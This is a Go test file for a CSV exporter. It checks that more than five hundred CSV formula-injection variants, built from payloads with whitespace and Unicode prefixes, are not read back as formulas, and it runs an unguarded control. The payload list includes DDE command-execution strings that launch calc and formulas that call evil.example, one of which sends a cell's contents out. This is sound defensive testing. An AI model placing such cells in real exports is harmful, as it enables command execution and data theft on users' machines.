package export

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"unicode"
)

// formulas are more than five hundred cells that a spreadsheet would run.
func formulas() (all []string) {
	payloads := []string{"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
		"=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|cmd' /C calc'!A0", "%0A=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1+1", "=-+@1", "@=1", "+=1", "-=1"}
	fronts := []string{"", " ", "  ", "\t", "\r", "\n", "\r\n", "\v", "\f", "\x00", "\x1f", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200e", "\u202e", "\ufeff", "\u2060", "\u0301", "'", "\"", "\"\"", "' ", "\u2028", "\u0085", "\t ", "\u00ad", "\u180e", "\u2066"}
	for _, p := range payloads {
		for _, f := range fronts {
			all = append(all, f+p)
		}
	}
	return all
}

// runs reports whether a spreadsheet would take a cell for a formula. It is
// written apart from [Harmless]: the first thing that is seen decides, and only an
// apostrophe in the very front makes a text of it.
func runs(cell string) bool {
	if strings.HasPrefix(cell, "'") {
		return false
	}
	for _, r := range cell {
		if unicode.IsGraphic(r) && !unicode.IsSpace(r) && !unicode.IsMark(r) && r != '"' {
			return strings.ContainsRune("=+-@|%＝＋－＠−", r)
		}
	}
	return false
}

// Every formula goes through the file and is read back. The control writes the
// same cells without the guard.
func TestFormulas(t *testing.T) {
	all, seen := formulas(), 0
	for _, f := range all {
		rows, err := csv.NewReader(bytes.NewReader(written(t, CSV, []any{int64(1), 0.5, f, f, f}))).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != len(columns) {
			t.Fatalf("%q broke the file: %d rows, %v", f, len(rows), err)
		}
		for _, cell := range rows[1][2:] {
			if runs(cell) {
				t.Fatalf("%q is a formula: %q", f, cell)
			}
		}
		var raw bytes.Buffer
		w := csv.NewWriter(&raw)
		_ = w.Write([]string{f})
		w.Flush()
		if rows, err := csv.NewReader(&raw).ReadAll(); err == nil && len(rows) == 1 && runs(rows[0][0]) {
			seen++
		}
	}
	t.Logf("proof: %d formulas in CSV cells, 0 run", len(all))
	t.Logf("control: %d of them run without the guard", seen)
	if len(all) < 500 || seen < len(all)/2 {
		t.Errorf("%d formulas, the check sees %d of them: want 500 and most", len(all), seen)
	}
	if name := fmt.Sprint(runs("-3"), runs("'=1"), runs("bagus = puas")); name != "true false false" {
		t.Errorf("the check says %s", name)
	}
}
